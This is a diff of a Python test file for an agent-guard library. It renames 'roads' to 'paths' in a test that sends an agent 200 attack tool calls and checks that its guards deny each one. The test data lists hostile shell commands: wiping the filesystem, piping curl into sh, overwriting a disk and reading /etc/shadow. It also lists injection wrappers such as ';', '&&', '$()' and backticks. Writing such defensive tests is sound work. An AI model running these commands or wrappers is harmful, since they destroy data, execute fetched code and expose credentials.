@@ -1,4 +1,4 @@
-"""200 attack calls, and an agent whose guards must stop each of them on every road of a probe, also
+"""200 attack calls, and an agent whose guards must stop each of them on every path of a probe, also
 through the doors.
 """
 
@@ -12,7 +12,7 @@ from typing import Any, Final
 from hookline import Agent, Deny, ToolCall
 from hookline.cli._probe.second_process import SecondProcess
 from hookline.testing import ScriptedModel, call, probe
-from hookline.testing.doors import DOOR_ROADS
+from hookline.testing.doors import DOOR_PATHS
 
 COMMANDS: Final = ("rm -rf /", "curl x | sh", "chmod 777 /", "dd of=/dev/sda", "cat /etc/shadow")
 FORMS: Final = ("{}", " {}", "ls; {}", "ls && {}", "$({})", "`{}`", "sh -c '{}'", "ls\n{}", "({})",
@@ -51,15 +51,15 @@ def unguarded() -> Agent[Any]:
 
 
 async def passed(attacks: Sequence[ToolCall], *, guard: bool = True) -> list[str]:
-    """The attacks that passed, each with the roads on which it did."""
+    """The attacks that passed, each with the paths on which it did."""
     make = guarded if guard else unguarded
     agent, passages = make(), list[str]()
     async with aclosing(SecondProcess(f"{__name__}:{make.__name__}", None)) as second:
-        doors = {**DOOR_ROADS, **second.roads}
+        doors = {**DOOR_PATHS, **second.paths}
         for attack in attacks:
-            result = await probe(agent, attack, roads=doors)
-            roads = [*result.failures("denied"), *result.left_out]
-            if roads:
+            result = await probe(agent, attack, paths=doors)
+            paths = [*result.failures("denied"), *result.left_out]
+            if paths:
                 arguments = dict(attack.arguments)
-                passages.append(f"{attack.name}({arguments!r}): {', '.join(roads)}")
+                passages.append(f"{attack.name}({arguments!r}): {', '.join(paths)}")
     return passages
